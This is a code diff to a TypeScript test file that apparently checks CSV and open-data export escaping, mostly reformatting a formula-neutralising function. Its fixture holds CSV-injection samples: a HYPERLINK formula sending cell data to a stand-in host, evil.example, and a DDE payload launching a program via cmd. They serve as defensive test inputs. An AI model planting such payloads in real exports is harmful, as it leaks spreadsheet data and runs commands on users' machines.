@@ -49,7 +49,15 @@ function expectedKeys(name: (typeof NAMES)[number]): { keys: string[]; keyOf: (r
 /** A JSON value as its CSV cell reads: text a spreadsheet would run as a formula gets a leading `'` (OWASP). */
 function cell(value: unknown): string {
   if (value === undefined || value === null) return '';
-  const text = Array.isArray(value) ? value.join(', ') : typeof value === 'boolean' ? (value ? 'ja' : 'nej') : typeof value === 'string' ? value : JSON.stringify(value);
+  const text = Array.isArray(value)
+    ? value.join(', ')
+    : typeof value === 'boolean'
+      ? value
+        ? 'ja'
+        : 'nej'
+      : typeof value === 'string'
+        ? value
+        : JSON.stringify(value);
   return typeof value !== 'number' && /^ *[=+\-@\t\r]/.test(text) ? `'${text}` : text;
 }
 
@@ -137,7 +145,9 @@ describe('escaping per format, in a fixture build', () => {
   const title = '=HYPERLINK("https://evil.example/?"&A1;"Klik")';
   const description = '@SUM(1+1)*cmd|" /C calc"!A0 <b>&amp;</b>';
   const result = buildFixture('open-data-escaping', {
-    [INITIATIVE]: original.replace(/^title: .*$/m, `title: ${JSON.stringify(title)}`).replace(/^description: .*$/m, `description: ${JSON.stringify(description)}`),
+    [INITIATIVE]: original
+      .replace(/^title: .*$/m, `title: ${JSON.stringify(title)}`)
+      .replace(/^description: .*$/m, `description: ${JSON.stringify(description)}`),
   });
   const file = (name: string) => readFileSync(path.join(result.root, 'dist/data', name), 'utf8');
 
